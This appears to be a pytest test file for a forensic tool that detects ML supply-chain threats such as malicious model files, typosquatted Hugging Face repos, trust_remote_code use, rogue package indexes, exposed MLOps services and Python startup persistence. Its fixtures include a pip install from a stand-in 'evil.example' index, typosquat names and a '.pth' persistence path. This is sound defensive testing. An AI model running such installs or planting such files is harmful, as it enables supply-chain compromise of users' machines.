"""Findings rules: each fires on its evidence, stays quiet without it, and is documented."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import tl_scenario as sc
from mlsleuth.timelines.frame import Columns, Timeline
from mlsleuth.timelines.report import build_report
from mlsleuth.timelines.rules import RULES, SEVERITIES
from mlsleuth.timelines.typosquat import check_repo, distance, skeleton
from tl_scenario import ev

from mlsleuth.events import Category, Event

DOCS = Path(__file__).resolve().parents[2] / "docs" / "rules.md"
TRC = "trust_remote_code" + "=True"


def findings(events: list[Event]) -> list[dict]:
    cols = Columns()
    cols.extend(events)
    return build_report(Timeline(cols), 600).findings


def rules_of(events: list[Event]) -> list[str]:
    return [f["rule"] for f in findings(events)]


def test_rules_are_declared_once_with_every_field():
    names = [r.name for r in RULES]
    assert len(names) == len(set(names))
    for r in RULES:
        assert r.description and r.severity in SEVERITIES and callable(r.logic)
        assert re.fullmatch(r"T\d{4}(\.\d{3})?", r.attack), r.name


def test_every_rule_is_documented_with_an_example():
    text = DOCS.read_text(encoding="utf-8")
    for r in RULES:
        section = text.split(f"### `{r.name}`", 1)
        assert len(section) == 2, f"{r.name} has no section in docs/rules.md"
        body = section[1].split("\n### ", 1)[0]
        assert "Example" in body and r.attack in body, r.name


def test_model_verdicts():
    out = findings(sc.deadbox_events() + sc.live_events())
    by_rule = {f["rule"]: f for f in out}
    assert by_rule["model-malicious"]["severity"] == "high"
    assert by_rule["model-malicious"]["path"].endswith("pytorch_model.bin")
    assert by_rule["model-suspicious"]["path"].endswith("model.pkl")
    assert [f["rule"] for f in out].count("model-malicious") == 1  # the clean one is not reported


def test_tampered_blob():
    blob = f"{sc.EVIL_DIR}/blobs/{sc.EVIL_SHA}"
    e = ev(5, Category.FINDING, "blob changed after download", file_path=blob, verdict="suspicious",
           extra={"rule": "hf_blob_hash_mismatch"})
    assert "hf-blob-tampered" in rules_of([e])
    assert "hf-blob-tampered" not in rules_of(sc.deadbox_events())


def test_remote_code_enabled_by_flag_auto_map_and_modules():
    cmd = ev(1, Category.COMMAND, "ipython", user="bob", cmdline=f'AutoModel.from_pretrained("a/b", {TRC})')
    cfg = ev(2, Category.MODEL_DOWNLOAD, "config.json declares auto_map", model_repo="models/a/b",
             file_path="/home/bob/.cache/huggingface/hub/models--a--b/snapshots/x/config.json",
             extra={"auto_map": {"AutoModel": "modeling_b.BModel"}})
    mod = ev(3, Category.REMOTE_CODE, "code written", model_repo="models/a/b",
             file_path="/home/bob/.cache/huggingface/modules/transformers_modules/a/b/123/modeling_b.py")
    assert rules_of([cmd]) == ["remote-code-enabled"]
    assert rules_of([cfg]) == ["remote-code-enabled"]
    out = findings([mod])
    assert [f["rule"] for f in out] == ["remote-code-enabled"] and out[0]["path"].endswith("modeling_b.py")
    quiet = ev(1, Category.COMMAND, "ipython", cmdline='AutoModel.from_pretrained("a/b", trust_remote_code=False)')
    assert rules_of([quiet]) == []


@pytest.mark.parametrize("repo,imitates", [
    ("meta-1lama/Llama-3.2-1B-Instruct", "meta-llama"),  # digit for letter
    ("mistral-ai/Mistral-7B-v0.1", "mistralai"),  # edit distance 1
    ("gооgle/gemma-7b", "google"),  # Cyrillic о
    ("rnicrosoft/phi-2", "microsoft"),  # rn for m
    ("sentence-transformer/all-MiniLM-L6-v2", "sentence-transformers"),
    ("bert-base-uncasde", "bert-base-uncased"),
])
def test_typosquats_are_recognised(repo, imitates):
    hit = check_repo(repo)
    assert hit is not None and imitates in hit.imitates


@pytest.mark.parametrize("repo", ["meta-llama/Llama-2-7b-hf", "google/gemma-7b", "TheBloke/x", "alice/bert",
                                  "someone/Llama-2-7b-hf", "openbmb/MiniCPM", "Qwen/Qwen2.5-7B"])
def test_real_and_unrelated_names_are_not_typosquats(repo):
    assert check_repo(repo) is None


def test_typosquat_rule_on_a_download():
    evs = sc.download(0, "meta-1lama/x", f"{sc.HUB}/models--meta-1lama--x", sc.EVIL_SHA)
    (f,) = findings(evs)
    assert f["rule"] == "typosquat-repo" and f["severity"] == "high" and "meta-llama" in f["summary"]
    assert f["path"] == f"{sc.HUB}/models--meta-1lama--x"


def test_distance_and_skeleton():
    assert distance("google", "goolge") == 1  # transposition
    assert distance("abc", "xyz", limit=1) == 2
    assert skeleton("Meta-1lama") == skeleton("meta-llama")


def test_extra_index_from_install_config_and_command():
    site = "/home/a/.local/lib/python3.11/site-packages"
    install = ev(1, Category.PACKAGE_INSTALL, "x", package="x", version="1", file_path=f"{site}/x-1.dist-info",
                 index_url="http://203.0.113.7:8080/simple/")
    plain = ev(1, Category.PACKAGE_INSTALL, "y", package="y", version="1", file_path=f"{site}/y-1.dist-info",
               index_url="https://pypi.org/simple")
    conf = ev(1, Category.CONFIG, "pip.conf", file_path="/home/a/.config/pip/pip.conf",
              extra={"extra_index_url": "http://203.0.113.7:8080/simple/"})
    cmd = ev(1, Category.COMMAND, "bash", cmdline="pip install --extra-index-url http://evil.example/simple foo")
    cmd_ok = ev(1, Category.COMMAND, "bash", cmdline="pip install -i https://pypi.org/simple foo")
    assert rules_of([install]) == ["install-from-extra-index"]
    assert rules_of([conf]) == ["install-from-extra-index"]
    assert rules_of([cmd]) == ["install-from-extra-index"]
    assert rules_of([plain, cmd_ok]) == []


def _listen(laddr: str, port: int, pid: int, cmd: str) -> list[Event]:
    return [ev(0, Category.PROCESS, cmd, pid=pid, ppid=1, process=cmd.split()[0], cmdline=cmd),
            ev(1, Category.NETWORK, f"listening {laddr}:{port}", pid=pid,
               extra={"status": "LISTEN", "laddr": f"{laddr}:{port}"})]


def test_mlops_services_listening_beyond_loopback_without_auth():
    assert rules_of(_listen("0.0.0.0", 8265, 10, "ray start --head --dashboard-host 0.0.0.0")) == [
        "mlops-service-exposed"]
    assert rules_of(_listen("0.0.0.0", 5000, 11, "mlflow server --host 0.0.0.0")) == ["mlops-service-exposed"]
    assert rules_of(_listen("0.0.0.0", 8888, 12, "jupyter lab --ip=0.0.0.0 --ServerApp.token=''")) == [
        "mlops-service-exposed"]
    assert rules_of(_listen("127.0.0.1", 6006, 13, "tensorboard --logdir runs")) == []  # loopback
    assert rules_of(_listen("0.0.0.0", 8888, 14, "jupyter lab --ip=0.0.0.0")) == []  # token auth on
    assert rules_of(_listen("0.0.0.0", 5000, 15, "mlflow server --app-name basic-auth")) == []


def test_python_startup_persistence():
    for path in ("/home/a/.ipython/profile_default/startup/00-x.py",
                 "/home/a/.local/lib/python3.11/site-packages/sitecustomize.py",
                 "/home/a/.local/lib/python3.11/site-packages/zz_evil.pth"):
        assert rules_of([ev(1, Category.PERSISTENCE, "written", file_path=path)]) == [
            "python-startup-persistence"], path
    benign = ev(1, Category.PERSISTENCE, "w", file_path="/usr/lib/python3/dist-packages/distutils-precedence.pth")
    access = ev(1, Category.FILE, "read", timestamp_desc="Last Access Time",
                file_path="/home/a/.ipython/profile_default/startup/00-x.py")
    assert rules_of([benign, access]) == []
